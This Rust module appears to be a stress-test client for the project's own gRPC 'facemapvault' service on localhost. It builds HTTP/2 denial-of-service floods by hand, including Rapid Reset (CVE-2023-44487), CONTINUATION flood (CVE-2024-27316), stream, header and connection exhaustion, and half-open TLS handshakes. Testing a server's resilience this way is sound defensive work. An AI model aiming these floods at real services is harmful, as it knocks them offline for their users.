//! A hostile client: frames of HTTP/2 written by hand, over a connection with a good certificate.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, sleep, timeout_at};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// Whom to attack, and as whom.
#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) connector: TlsConnector,
    pub(crate) done: Arc<Done>,
}

/// How much of it was done.
#[derive(Default)]
pub(crate) struct Done {
    pub(crate) connections: AtomicU64,
    pub(crate) bytes: AtomicU64,
}

/// What to do to it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Messages that announce 4 GiB.
    HugeMessage,
    /// Requests that never end, as many as can be opened.
    ManyStreams,
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316).
    Continuation,
    /// A body of frames with nothing in them.
    EmptyData,
    /// Ten thousand headers in each request.
    ManyHeaders,
    /// Connections that say half of a handshake.
    HalfOpen,
    /// Whole connections that ask for nothing, as many as can be had.
    Connections,
    /// Messages that say they are compressed.
    Compressed,
}

impl Attack {
    pub(crate) const ALL: [Self; 9] = [
        Self::HugeMessage,
        Self::ManyStreams,
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::ManyHeaders,
        Self::HalfOpen,
        Self::Connections,
        Self::Compressed,
    ];

    /// The first frames of a connection, and those that are sent again and again; `round` counts up.
    fn frames(self, round: u32) -> Vec<u8> {
        let first = 1 + round * 2 * STREAMS;
        let ids = (0..STREAMS).map(|n| first + 2 * n);
        let request = |id: u32, flags: u8| frame(HEADERS, flags, id, &head(&[]));
        match self {
            Self::HugeMessage => {
                let body = [&[0, 0xff, 0xff, 0xff, 0xff][..], &[0; 100]].concat();
                let one = |id| [request(id, END_HEADERS), frame(DATA, 0, id, &body)].concat();
                ids.flat_map(one).collect()
            }
            Self::ManyStreams => ids.flat_map(|id| request(id, END_HEADERS)).collect(),
            Self::RapidReset => {
                let cancel = 8u32.to_be_bytes();
                let one = |id| [request(id, END_HEADERS), frame(RST_STREAM, 0, id, &cancel)];
                ids.flat_map(one).flatten().collect()
            }
            Self::Continuation if round == 0 => request(1, 0),
            Self::Continuation => {
                frame(CONTINUATION, 0, 1, &field("x-more", "y")).repeat(STREAMS as usize)
            }
            Self::EmptyData if round == 0 => request(1, END_HEADERS),
            Self::EmptyData => frame(DATA, 0, 1, &[]).repeat(STREAMS as usize),
            Self::ManyHeaders => {
                let fields = field("x-more", "y").repeat(10_000);
                let id = 1 + 2 * round;
                let mut parts = fields.chunks(16_000).peekable();
                let mut frames = request(id, 0);
                while let Some(part) = parts.next() {
                    let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
                    frames.extend(frame(CONTINUATION, flags, id, part));
                }
                frames
            }
            Self::Compressed => {
                let gzip = field("grpc-encoding", "gzip");
                let body = [&[1, 0, 0, 0x40, 0][..], &[0; 16_000]].concat();
                let one = |id| {
                    [frame(HEADERS, END_HEADERS, id, &head(&gzip)), frame(DATA, 1, id, &body)]
                        .concat()
                };
                ids.take(8).flat_map(one).collect()
            }
            Self::HalfOpen | Self::Connections => Vec::new(),
        }
    }

    /// Whether it needs no frames, only connections.
    fn holds(self) -> bool {
        matches!(self, Self::HalfOpen | Self::Connections)
    }

    /// Attacks until then, over and over, on several connections.
    pub(crate) async fn run(self, target: &Target, until: Instant) {
        let connections = if self.holds() { 1 } else { 4 };
        let attacks = (0..connections).map(|_| async {
            while Instant::now() < until {
                // An error is the defence; the next connection tries again.
                let _ = timeout_at(until, self.one(target)).await;
                sleep(Duration::from_millis(1)).await;
            }
        });
        futures_util::future::join_all(attacks).await;
    }

    async fn one(self, target: &Target) -> std::io::Result<()> {
        if self.holds() {
            return self.hold_many(target).await;
        }
        let stream = target.connect().await?;
        let (mut from, mut to) = tokio::io::split(stream);
        let read = async {
            let mut sink = vec![0; 64 * 1024];
            while from.read(&mut sink).await? > 0 {}
            Ok(())
        };
        let write = async {
            to.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
            to.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
            for round in 0.. {
                let frames = self.frames(round);
                to.write_all(&frames).await?;
                to.flush().await?;
                target.done.bytes.fetch_add(frames.len() as u64, Ordering::Relaxed);
            }
            Ok(())
        };
        // Whichever ends first: the vault has closed the connection.
        tokio::select! {
            ended = read => ended,
            ended = write => ended,
        }
    }

    /// Opens connection after connection, and keeps them until it is dropped.
    async fn hold_many(self, target: &Target) -> std::io::Result<()> {
        let (mut raw, mut whole) = (Vec::new(), Vec::new());
        loop {
            if raw.len() + whole.len() > 2_000 {
                raw.drain(..1_000.min(raw.len()));
                whole.drain(..1_000.min(whole.len()));
            }
            if self == Self::Connections {
                match target.connect().await {
                    Ok(stream) => whole.push(stream),
                    Err(_) => sleep(Duration::from_millis(1)).await,
                }
                continue;
            }
            let mut stream = target.tcp().await?;
            // The head of a ClientHello that announces 500 bytes and has none.
            let _ = stream.write_all(&[0x16, 3, 1, 1, 0xf8, 1, 0, 1, 0xf4]).await;
            raw.push(stream);
        }
    }
}

impl Target {
    /// From another address than the other peer's, as from another machine.
    async fn tcp(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind("127.0.0.2:0".parse().unwrap())?;
        self.done.connections.fetch_add(1, Ordering::Relaxed);
        socket.connect(self.address).await
    }

    async fn connect(&self) -> std::io::Result<TlsStream<TcpStream>> {
        let name = ServerName::try_from("localhost").unwrap();
        self.connector.connect(name, self.tcp().await?).await
    }
}

/// Requests in one go.
const STREAMS: u32 = 100;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// A frame (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call, and `more` (RFC 7541, without indexing).
fn head(more: &[u8]) -> Vec<u8> {
    let path = "/facemapvault.v1.FacemapVaultService/GetEnrollment";
    let mut head = vec![0x83, 0x87, 0x04, u8::try_from(path.len()).unwrap()];
    head.extend(path.bytes());
    head.extend(field("content-type", "application/grpc"));
    head.extend(field("te", "trailers"));
    head.extend(more);
    head
}

fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}
